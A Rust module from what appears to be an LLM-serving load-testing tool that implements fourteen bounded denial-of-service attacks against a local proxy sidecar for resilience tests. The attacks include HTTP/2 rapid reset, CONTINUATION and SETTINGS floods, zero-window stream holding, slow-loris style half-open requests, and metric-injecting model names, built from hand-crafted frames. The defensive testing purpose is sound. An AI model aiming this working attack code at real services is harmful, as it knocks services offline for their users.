//! What a hostile client can do to a pod's sidecar, each attack bounded in size and time and
//! aimed at one address on loopback, from an address of its own ([`ATTACKER`], apart from the
//! legitimate clients on 127.0.0.1): used by the adversarial tests and by `llmslo soak
//! --attacks`, which interleaves them with real streams.

use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

/// How long the attacks that hold connections hold them.
const HOLD: Duration = Duration::from_secs(2);
/// How long the attacks that hold slots without progress hold them: past the deadlines a soak
/// with attacks gives the sidecar, so that each deadline is seen to fire.
const SLOT_HOLD: Duration = Duration::from_secs(8);
/// The chat route every request-shaped attack goes to.
const CHAT: &str = "/v1/chat/completions";
/// The client address the attacks come from (loopback holds the whole 127.0.0.0/8), apart from
/// the legitimate clients on 127.0.0.1.
pub const ATTACKER: std::net::IpAddr = std::net::IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 2));

/// One kind of attack.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Requests whose model names would break the exposition or flood it with series.
    HostileModelNames,
    /// Connections that send half a request head and wait.
    HalfOpenHeads,
    /// Connections that send part of the h2c preface and wait.
    PartialPreface,
    /// Uploads that declare the largest peeked body and trickle.
    SlowUploads,
    /// Streams whose clients never read.
    SlowReaders,
    /// HTTP/2 streams opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// An HTTP/2 header block that never ends (CONTINUATION flood).
    ContinuationFlood,
    /// SETTINGS and PING frames by the ten thousand, their acknowledgements never read.
    SettingsFlood,
    /// Many h2c connections, each opening as many streaming requests as it may.
    StreamMultiplication,
    /// h2c streams whose client keeps its flow-control window at zero: the engine generates,
    /// and nothing can be sent.
    ZeroWindow,
    /// h2c connections that make one request, then stay open and idle.
    IdleH2,
    /// Uploads that declare a small body and send a byte a second.
    TrickledBodies,
    /// Zero-window h2c streams from one client address of their own, opened again as soon as
    /// the sidecar lets them go, to hold every in-flight slot for ever.
    ReopenedZeroWindow,
    /// Requests whose `metadata`, `user` and `safety_identifier` are megabytes of dense arrays.
    DenseRequestFields,
}

impl Attack {
    /// Every attack, in the order the soak runs them.
    pub const ALL: [Attack; 14] = [
        Attack::HostileModelNames,
        Attack::HalfOpenHeads,
        Attack::PartialPreface,
        Attack::SlowUploads,
        Attack::SlowReaders,
        Attack::RapidReset,
        Attack::ContinuationFlood,
        Attack::SettingsFlood,
        Attack::StreamMultiplication,
        Attack::ZeroWindow,
        Attack::IdleH2,
        Attack::TrickledBodies,
        Attack::ReopenedZeroWindow,
        Attack::DenseRequestFields,
    ];

    /// A short name for reports.
    pub fn name(self) -> &'static str {
        match self {
            Attack::HostileModelNames => "hostile model names",
            Attack::HalfOpenHeads => "half-open heads",
            Attack::PartialPreface => "partial h2c preface",
            Attack::SlowUploads => "slow uploads",
            Attack::SlowReaders => "slow readers",
            Attack::RapidReset => "h2 rapid reset",
            Attack::ContinuationFlood => "h2 CONTINUATION flood",
            Attack::SettingsFlood => "h2 SETTINGS/PING flood",
            Attack::StreamMultiplication => "h2c stream multiplication",
            Attack::ZeroWindow => "h2 zero window",
            Attack::IdleH2 => "idle h2c connections",
            Attack::TrickledBodies => "trickled bodies",
            Attack::ReopenedZeroWindow => "reopened zero windows",
            Attack::DenseRequestFields => "dense request fields",
        }
    }

    /// Runs the attack against the proxy at `addr`; it is over within a few seconds. Errors
    /// are the attacker's business: a refused or reset connection is what a defence looks like.
    pub async fn run(self, addr: SocketAddr) {
        match self {
            Attack::HostileModelNames => hostile_model_names(addr).await,
            Attack::HalfOpenHeads => {
                hold_many(
                    addr,
                    500,
                    b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-le",
                )
                .await
            }
            Attack::PartialPreface => hold_many(addr, 200, b"PRI * HTTP/2.0\r\n").await,
            Attack::SlowUploads => {
                let head = format!(
                    "POST {CHAT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{{",
                    4 << 20
                );
                hold_many(addr, 50, head.as_bytes()).await
            }
            Attack::SlowReaders => slow_readers(addr, 50).await,
            Attack::RapidReset => {
                let _ = rapid_reset(addr, 10_000).await;
            }
            Attack::ContinuationFlood => {
                let _ = continuation_flood(addr, 8 << 20).await;
            }
            Attack::SettingsFlood => {
                let _ = settings_flood(addr, 50_000).await;
            }
            Attack::StreamMultiplication => stream_multiplication(addr, 5, 150).await,
            Attack::ZeroWindow => zero_window(addr, 3, 100, SLOT_HOLD).await,
            Attack::IdleH2 => idle_h2(addr, 200, SLOT_HOLD).await,
            Attack::TrickledBodies => trickled_bodies(addr, 200, SLOT_HOLD).await,
            Attack::ReopenedZeroWindow => reopened_zero_window(addr, ATTACKER, 4, 100, 2 * SLOT_HOLD).await,
            Attack::DenseRequestFields => dense_request_fields(addr, 4).await,
        }
    }
}

/// Opens `n` connections that each send `bytes` and then nothing, holds them, and drops them.
async fn hold_many(addr: SocketAddr, n: usize, bytes: &[u8]) {
    let mut held = Vec::with_capacity(n);
    for _ in 0..n {
        if let Ok(mut stream) = connect_from(ATTACKER, addr).await {
            let _ = stream.write_all(bytes).await;
            held.push(stream);
        }
    }
    tokio::time::sleep(HOLD).await;
}

/// Model names with quotes, backslashes, newlines, odd characters and sheer number.
async fn hostile_model_names(addr: SocketAddr) {
    let mut names: Vec<String> = ["a\"b", "a\\b", "x\ny", "} 1\nfake_metric 1", "é模型", "\u{0}", ""]
        .iter()
        .map(|s| s.to_string())
        .collect();
    names.push("m".repeat(300));
    names.extend((0..300).map(|i| format!("attacker-{i}-{}", rand::random::<u64>())));
    let mut tasks = JoinSet::new();
    for chunk in names.chunks(20) {
        let chunk = chunk.to_vec();
        tasks.spawn(async move {
            for name in chunk {
                let body = serde_json::json!({
                    "model": name,
                    "messages": [{"role": "user", "content": "hi"}],
                    "max_tokens": 1,
                })
                .to_string();
                let request = format!(
                    "POST {CHAT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nconnection: close\r\n\
                     content-length: {}\r\n\r\n{body}",
                    body.len()
                );
                let _ = exchange(addr, request.as_bytes()).await;
            }
        });
    }
    while tasks.join_next().await.is_some() {}
}

/// Sends `request` and reads the answer until the peer closes (bounded).
async fn exchange(addr: SocketAddr, request: &[u8]) -> std::io::Result<Vec<u8>> {
    let mut stream = connect_from(ATTACKER, addr).await?;
    stream.write_all(request).await?;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), stream.read_to_end(&mut answer)).await;
    Ok(answer)
}

/// The JSON body of a streaming chat request for `max_tokens` of the model the built-in
/// engine serves: a stream that really generates.
fn served_streaming_chat(max_tokens: u32) -> String {
    streaming_chat(max_tokens).replace(r#""model":"m""#, r#""model":"sim""#)
}

/// The JSON body of a streaming chat request for `max_tokens`.
fn streaming_chat(max_tokens: u32) -> String {
    serde_json::json!({
        "model": "m",
        "messages": [{"role": "user", "content": "hi"}],
        "max_tokens": max_tokens,
        "stream": true,
    })
    .to_string()
}

/// Streaming requests from clients with tiny receive buffers that never read.
async fn slow_readers(addr: SocketAddr, n: usize) {
    let body = streaming_chat(2000);
    let request = format!(
        "POST {CHAT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    );
    let mut held = Vec::with_capacity(n);
    for _ in 0..n {
        let Ok(socket) = TcpSocket::new_v4() else { continue };
        let _ = socket.set_recv_buffer_size(1024);
        if socket.bind(SocketAddr::new(ATTACKER, 0)).is_err() {
            continue;
        }
        if let Ok(mut stream) = socket.connect(addr).await {
            let _ = stream.write_all(request.as_bytes()).await;
            held.push(stream);
        }
    }
    tokio::time::sleep(HOLD).await;
}

/// HTTP/2 frame types and flags used here (RFC 9113 §6).
mod h2 {
    pub const DATA: u8 = 0x0;
    pub const HEADERS: u8 = 0x1;
    pub const RST_STREAM: u8 = 0x3;
    pub const SETTINGS: u8 = 0x4;
    pub const PING: u8 = 0x6;
    pub const CONTINUATION: u8 = 0x9;
    pub const INITIAL_WINDOW_SIZE: u8 = 0x4;
    pub const END_STREAM: u8 = 0x1;
    pub const END_HEADERS: u8 = 0x4;
    pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
}

/// One HTTP/2 frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// An HPACK integer with an `prefix`-bit prefix whose other bits are `first` (RFC 7541 §5.1).
fn hpack_int(out: &mut Vec<u8>, first: u8, prefix: u32, value: usize) {
    let max = (1usize << prefix) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    let mut rest = value - max;
    while rest >= 128 {
        out.push((rest % 128) as u8 | 0x80);
        rest /= 128;
    }
    out.push(rest as u8);
}

/// A literal header field without indexing, its name from the static table (RFC 7541 §6.2.2).
fn hpack_literal(out: &mut Vec<u8>, name_index: usize, value: &[u8]) {
    hpack_int(out, 0x00, 4, name_index);
    hpack_int(out, 0x00, 7, value.len());
    out.extend_from_slice(value);
}

/// The header block of `POST /v1/chat/completions` with a JSON body.
fn chat_headers() -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http
    hpack_literal(&mut block, 4, CHAT.as_bytes()); // :path
    hpack_literal(&mut block, 1, b"x"); // :authority
    hpack_literal(&mut block, 31, b"application/json"); // content-type
    block
}

/// A connection that has sent the preface and an empty SETTINGS frame.
async fn h2c(addr: SocketAddr) -> std::io::Result<TcpStream> {
    let mut stream = connect_from(ATTACKER, addr).await?;
    stream.write_all(h2::PREFACE).await?;
    stream.write_all(&frame(h2::SETTINGS, 0, 0, &[])).await?;
    Ok(stream)
}

/// Opens and at once resets `n` streams on one connection.
async fn rapid_reset(addr: SocketAddr, n: u32) -> std::io::Result<()> {
    let mut stream = h2c(addr).await?;
    let headers = chat_headers();
    let cancel = 0x8u32.to_be_bytes();
    let mut batch = Vec::new();
    for i in 0..n {
        let id = 2 * i + 1;
        batch.extend(frame(h2::HEADERS, h2::END_HEADERS, id, &headers));
        batch.extend(frame(h2::RST_STREAM, 0, id, &cancel));
        if batch.len() > 64 << 10 {
            stream.write_all(&batch).await?;
            batch.clear();
        }
    }
    stream.write_all(&batch).await?;
    drain_for(&mut stream, Duration::from_secs(1)).await;
    Ok(())
}

/// One header block of `bytes` in CONTINUATION frames that never ends.
async fn continuation_flood(addr: SocketAddr, bytes: usize) -> std::io::Result<()> {
    let mut stream = h2c(addr).await?;
    stream.write_all(&frame(h2::HEADERS, 0, 1, &chat_headers())).await?;
    let mut piece = Vec::new();
    while piece.len() < 16_000 {
        hpack_literal(&mut piece, 32, &[b'x'; 100]); // cookie: xxx...
    }
    let continuation = frame(h2::CONTINUATION, 0, 1, &piece);
    let mut sent = 0;
    while sent < bytes {
        stream.write_all(&continuation).await?;
        sent += continuation.len();
    }
    drain_for(&mut stream, Duration::from_secs(1)).await;
    Ok(())
}

/// SETTINGS and PING frames whose acknowledgements are never read.
async fn settings_flood(addr: SocketAddr, n: usize) -> std::io::Result<()> {
    let mut stream = h2c(addr).await?;
    let settings = frame(h2::SETTINGS, 0, 0, &[0, 0x3, 0, 0, 0, 100]); // MAX_CONCURRENT_STREAMS
    let ping = frame(h2::PING, 0, 0, &[7; 8]);
    let mut batch = Vec::new();
    for _ in 0..n {
        batch.extend_from_slice(&settings);
        batch.extend_from_slice(&ping);
        if batch.len() > 64 << 10 {
            // A flood that the server stops reading ends here.
            tokio::time::timeout(Duration::from_secs(2), stream.write_all(&batch))
                .await
                .map_err(|_| std::io::Error::from(std::io::ErrorKind::TimedOut))??;
            batch.clear();
        }
    }
    Ok(())
}

/// `connections` h2c connections, each opening `streams` streaming requests and reading
/// nothing for a while.
async fn stream_multiplication(addr: SocketAddr, connections: usize, streams: u32) {
    let body = streaming_chat(50);
    let mut held = Vec::new();
    for _ in 0..connections {
        let Ok(mut stream) = h2c(addr).await else { continue };
        if stream.write_all(&requests(streams, &body)).await.is_ok() {
            held.push(stream);
        }
    }
    tokio::time::sleep(HOLD).await;
}

/// `connections` h2c connections that set their streams' initial flow-control window to zero,
/// each opening `streams` streaming requests, held for `hold` without ever opening a window:
/// the responses' heads come, their bodies cannot.
pub async fn zero_window(addr: SocketAddr, connections: usize, streams: u32, hold: Duration) {
    let body = served_streaming_chat(50);
    let shut = frame(h2::SETTINGS, 0, 0, &[0, h2::INITIAL_WINDOW_SIZE, 0, 0, 0, 0]);
    let mut held = Vec::new();
    for _ in 0..connections {
        let Ok(mut stream) = connect_from(ATTACKER, addr).await else {
            continue;
        };
        let mut batch = h2::PREFACE.to_vec();
        batch.extend(&shut);
        batch.extend(requests(streams, &body));
        if stream.write_all(&batch).await.is_ok() {
            held.push(stream);
        }
    }
    // Reads what comes (heads, SETTINGS, PINGs) so that only the windows hold it back.
    let mut readers = JoinSet::new();
    for mut stream in held {
        readers.spawn(async move { drain_for(&mut stream, hold).await });
    }
    while readers.join_next().await.is_some() {}
}

/// [`zero_window`]'s connections from the address `from`, opened again as the sidecar closes
/// them, until `hold` has passed.
pub async fn reopened_zero_window(
    addr: SocketAddr,
    from: std::net::IpAddr,
    connections: usize,
    streams: u32,
    hold: Duration,
) {
    let body = served_streaming_chat(50);
    let shut = frame(h2::SETTINGS, 0, 0, &[0, h2::INITIAL_WINDOW_SIZE, 0, 0, 0, 0]);
    let until = tokio::time::Instant::now() + hold;
    let mut attackers = JoinSet::new();
    for _ in 0..connections {
        let (body, shut) = (body.clone(), shut.clone());
        attackers.spawn(async move {
            while tokio::time::Instant::now() < until {
                let Ok(mut stream) = connect_from(from, addr).await else {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    continue;
                };
                let mut batch = h2::PREFACE.to_vec();
                batch.extend(&shut);
                batch.extend(requests(streams, &body));
                if stream.write_all(&batch).await.is_ok() {
                    drain_for(
                        &mut stream,
                        until.saturating_duration_since(tokio::time::Instant::now()),
                    )
                    .await;
                }
            }
        });
    }
    while attackers.join_next().await.is_some() {}
}

/// A TCP connection to `addr` from the address `from`.
pub async fn connect_from(from: std::net::IpAddr, addr: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = match from {
        std::net::IpAddr::V4(_) => TcpSocket::new_v4()?,
        std::net::IpAddr::V6(_) => TcpSocket::new_v6()?,
    };
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(addr).await
}

/// `n` requests at once, each of about 3.4 MiB whose `metadata`, `user` and
/// `safety_identifier` are dense arrays: a JSON tree of them would take ten times their bytes.
pub async fn dense_request_fields(addr: SocketAddr, n: usize) {
    let dense = format!("[{}0]", "0,".repeat(600_000));
    let body = format!(
        r#"{{"model":"sim","messages":[{{"role":"user","content":"hi"}}],"max_tokens":1,"metadata":{{"x":{dense},"user_id":"a"}},"user":{dense},"safety_identifier":{dense}}}"#
    );
    let request = std::sync::Arc::new(format!(
        "POST {CHAT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    ));
    let mut tasks = JoinSet::new();
    for _ in 0..n {
        let request = request.clone();
        tasks.spawn(async move {
            let _ = exchange(addr, request.as_bytes()).await;
        });
    }
    while tasks.join_next().await.is_some() {}
}

/// `n` h2c connections that each make one short request, read its answer, and then stay open
/// and idle for `hold`.
pub async fn idle_h2(addr: SocketAddr, n: usize, hold: Duration) {
    let body = r#"{"model":"sim","messages":[{"role":"user","content":"hi"}],"max_tokens":1}"#;
    let mut readers = JoinSet::new();
    for _ in 0..n {
        let Ok(mut stream) = h2c(addr).await else { continue };
        if stream.write_all(&requests(1, body)).await.is_ok() {
            readers.spawn(async move { drain_for(&mut stream, hold).await });
        }
    }
    while readers.join_next().await.is_some() {}
}

/// `n` uploads that declare a 4 KiB body and send one byte a second for `hold`.
pub async fn trickled_bodies(addr: SocketAddr, n: usize, hold: Duration) {
    let head =
        format!("POST {CHAT} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 4096\r\n\r\n{{");
    let mut held = Vec::with_capacity(n);
    for _ in 0..n {
        if let Ok(mut stream) = connect_from(ATTACKER, addr).await {
            if stream.write_all(head.as_bytes()).await.is_ok() {
                held.push(stream);
            }
        }
    }
    let until = tokio::time::Instant::now() + hold;
    while tokio::time::Instant::now() < until {
        tokio::time::sleep(Duration::from_secs(1).min(hold)).await;
        for stream in &mut held {
            let _ = stream.write_all(b" ").await;
        }
    }
}

/// `streams` chat requests with `body`, on streams 1, 3, 5, …: each a HEADERS and a DATA frame.
fn requests(streams: u32, body: &str) -> Vec<u8> {
    let mut batch = Vec::new();
    for i in 0..streams {
        let id = 2 * i + 1;
        batch.extend(frame(h2::HEADERS, h2::END_HEADERS, id, &chat_headers()));
        batch.extend(frame(h2::DATA, h2::END_STREAM, id, body.as_bytes()));
    }
    batch
}

/// Reads and discards what the server sends for `wait` (its GOAWAY, acknowledgements).
async fn drain_for(stream: &mut TcpStream, wait: Duration) {
    let mut buf = [0u8; 16 << 10];
    let _ = tokio::time::timeout(wait, async {
        while let Ok(n) = stream.read(&mut buf).await {
            if n == 0 {
                break;
            }
        }
    })
    .await;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hpack_integers_follow_rfc_7541() {
        // C.1.1 and C.1.2: 10 and 1337 with a 5-bit prefix.
        let mut out = Vec::new();
        hpack_int(&mut out, 0, 5, 10);
        assert_eq!(out, [10]);
        out.clear();
        hpack_int(&mut out, 0, 5, 1337);
        assert_eq!(out, [31, 154, 10]);
    }

    #[test]
    fn a_frame_has_a_nine_byte_header() {
        let f = frame(h2::PING, 1, 0, &[0; 8]);
        assert_eq!(&f[..9], &[0, 0, 8, 6, 1, 0, 0, 0, 0]);
    }
}
